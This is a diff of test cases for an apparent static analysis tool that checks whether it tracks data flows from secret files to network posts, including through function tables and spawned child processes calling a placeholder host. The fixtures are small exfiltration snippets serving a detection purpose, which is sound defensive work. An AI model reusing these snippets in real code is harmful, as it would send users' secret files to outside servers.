@@ -119,3 +119,35 @@ it('files found in a folder have its path', async () => {
     'from pathlib import Path\nimport requests\nfor f in (Path.home() / "secret").rglob("*.txt"):\n    requests.post("u", data=open(f).read())\n'
   expect(flows(await factsOf({ 'a.py': code }))).toHaveLength(1)
 })
+
+it.each([
+  [
+    'a table of functions',
+    'a.py',
+    'import requests\ndef one(x):\n    requests.post("u", data=x)\ndef two(x):\n    pass\nT = {"one": one, "two": two}\ndef go(name):\n    T[name](open("~/secret").read())\n',
+  ],
+  [
+    'a function got out of a table',
+    'a.py',
+    'import requests\ndef one(x):\n    requests.post("u", data=x)\nT = {"one": one}\ndef go(name):\n    T.get(name)(open("~/secret").read())\n',
+  ],
+  [
+    'an object of functions',
+    'a.js',
+    'const fs = require("fs"), axios = require("axios")\nconst t = { one: (x) => axios.post("u", x), two: (x) => x }\nfunction go(name) { t[name](fs.readFileSync("~/secret")) }\n',
+  ],
+])('follows whatever %s may call', async (_, path, code) => {
+  expect(flows(await factsOf({ [path]: code }))).toHaveLength(1)
+})
+
+it.each([
+  ['a.js', 'require("child_process").spawn(process.execPath, ["-e", "fetch(\\"https://a.example\\")"])\n'],
+  [
+    'a.py',
+    'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "fetch(\\"https://a.example\\")"])\n',
+  ],
+])('reads code that %s hands to the program it runs in', async (path, code) => {
+  expect(calls(await factsOf({ [path]: code }))).toContainEqual(
+    expect.stringContaining('fetch(https://a.example)'),
+  )
+})
